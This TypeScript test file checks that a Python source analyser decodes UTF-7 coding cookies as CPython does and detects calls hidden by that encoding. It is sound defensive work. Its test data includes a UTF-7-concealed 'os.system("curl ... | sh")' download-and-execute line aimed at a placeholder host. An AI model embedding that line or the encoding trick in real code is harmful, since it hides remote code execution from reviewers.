// Python source read in the encoding CPython reads it in (PEP 263). The oracle is CPython: python3 decodes bytes
// with its own utf-7 codec, finds the coding cookie with tokenize.detect_encoding, and parses each source with
// ast.parse(bytes) — which honours the cookie — never running it. The analysis must find the hidden call exactly
// when CPython's syntax tree holds it.
import { execFileSync } from 'node:child_process';
import { analyzePython } from '../../../src/analyze/python/analyze.js';
import { codingCookie, decodeSource, decodeUtf7, normalCodecName } from '../../../src/analyze/python/encoding.js';

function python(script: string, input: unknown): unknown {
  return JSON.parse(execFileSync('python3', ['-c', script], { input: JSON.stringify(input), encoding: 'utf8' }));
}

/** Encodes text as CPython's utf-7 codec does (so the inputs are CPython's own encodings, not ours). */
const utf7 = (texts: string[]): string[] => python('import json, sys\nprint(json.dumps([t.encode("utf-7").decode("ascii") for t in json.load(sys.stdin)]))', texts) as string[];

describe('utf-7 decoded as CPython decodes it', () => {
  const plain = ['import os;os.system("id")', 'a + b - c', '\n', 'naïve café — 東京 🎉 𝔘', '+-+-', 'x+y', '\u00a0\u2028', 'A'.repeat(10000) + '\u00e9'.repeat(5000)];
  const encoded = [...utf7(plain), '#+AAo-import os+ADs-os.system(+ACI-curl -fsSL https://x.invalid/i.sh +AHw- sh+ACI-)', '1 +- 2', '+AGEAYgBj-def', '+AGEAYgBj def', '+2D3eAQ-'];
  const decoded = python('import codecs, json, sys\nprint(json.dumps([codecs.decode(s.encode("ascii"), "utf-7") for s in json.load(sys.stdin)]))', encoded) as string[];

  test.each(encoded.map((e, i) => [e.slice(0, 40), i] as const))('%s', (_shown, i) => {
    expect(decodeUtf7(encoded[i]!)).toBe(decoded[i]);
  });
});

describe('the coding cookie CPython honours', () => {
  const sources = [
    '# -*- coding: utf-7 -*-\nx = 1\n',
    '#!/usr/bin/env python3\n# -*- coding: latin-1 -*-\nx = 1\n',
    '\n# vim: set fileencoding=utf-7 :\nx = 1\n',
    'x = 1\n# coding: utf-7\n',
    '# a comment\n\n# coding: utf-7\nx = 1\n',
    '# coding=UTF_8\nx = 1\n',
    '# coding: iso-latin-1-unix\nx = 1\n',
    '#!/bin/python\r\n# coding: utf-7\r\nx = 1\r\n',
    'x = 1\n'
  ];
  const oracle = python([
    'import io, json, sys, tokenize',
    'out = []',
    'for s in json.load(sys.stdin):',
    '    enc, _ = tokenize.detect_encoding(io.BytesIO(s.encode("ascii")).readline)',
    '    out.append(enc)',
    'print(json.dumps(out))'
  ].join('\n'), sources) as string[];

  test.each(sources.map((s, i) => [JSON.stringify(s.slice(0, 50)), i] as const))('%s', (_shown, i) => {
    const cookie = codingCookie(sources[i]!);
    // detect_encoding answers utf-8 when there is no cookie; both sides normalised as codecs.lookup does.
    expect(cookie ? normalCodecName(cookie.codec) : 'utf_8').toBe(normalCodecName(oracle[i]!));
  });
});

describe('code hidden by the source encoding is found exactly when CPython parses it', () => {
  const HIDDEN = '#+AAo-import os+ADs-os.system(+ACI-curl -fsSL https://x.invalid/i.sh +AHw- sh+ACI-)';
  const cases: [string, string][] = [
    ['utf-7 cookie, line 1', `# -*- coding: utf-7 -*-\nimport json\n\n${HIDDEN}\nprint(json.dumps({}))\n`],
    ['utf-7 cookie after a shebang', `#!/usr/bin/env python3\n# coding: utf-7\n${HIDDEN}\n`],
    ['utf-7 cookie on line 3 (not honoured)', `import json\n\n# coding: utf-7\n${HIDDEN}\n`],
    ['no cookie', `import json\n${HIDDEN}\n`],
    ['latin-1 cookie', `# -*- coding: latin-1 -*-\nimport json\n${HIDDEN}\n`]
  ];
  const oracle = python([
    'import ast, json, sys',
    'out = []',
    'for s in json.load(sys.stdin):',
    '    d = ast.dump(ast.parse(s.encode("ascii")))',
    '    out.append("attr=\'system\'" in d and "Name(id=\'os\'" in d)',
    'print(json.dumps(out))'
  ].join('\n'), cases.map((c) => c[1])) as boolean[];

  test('the oracle sees the call in some cases and not in others', () => {
    expect(oracle).toContain(true);
    expect(oracle).toContain(false);
  });

  test.each(cases.map((c, i) => [c[0], i] as const))('%s', (_name, i) => {
    const hits = analyzePython(cases[i]![1]).hits;
    expect(hits.some((h) => h.check === 'code.download-exec' && h.severity === 'critical')).toBe(oracle[i]);
  });

  test('a utf-7 cookie is itself a finding; so is a codec this analysis cannot read as CPython does', () => {
    expect(analyzePython(cases[0]![1]).hits.find((h) => h.check === 'code.source-encoding')).toMatchObject({ severity: 'high', line: 1 });
    for (const codec of ['utf-16', 'shift_jis', 'cp037', 'rot13', 'no-such-codec']) {
      expect(analyzePython(`# -*- coding: ${codec} -*-\nprint(1)\n`).hits.map((h) => `${h.severity} ${h.check}`)).toEqual(['high code.source-encoding']);
    }
    for (const codec of ['utf-8', 'latin-1', 'iso-8859-15', 'cp1252', 'ascii', 'euc-jp']) {
      expect(analyzePython(`# -*- coding: ${codec} -*-\nprint(1)\n`).hits).toEqual([]);
    }
  });

  test('findings are numbered by the decoded lines, which the content check quotes', () => {
    const d = decodeSource(cases[0]![1]);
    const line = analyzePython(cases[0]![1]).hits.find((h) => h.check === 'code.download-exec')!.line;
    expect(d.text.split('\n')[line - 1]).toMatch(/^import os;os\.system\(/);
  });
});
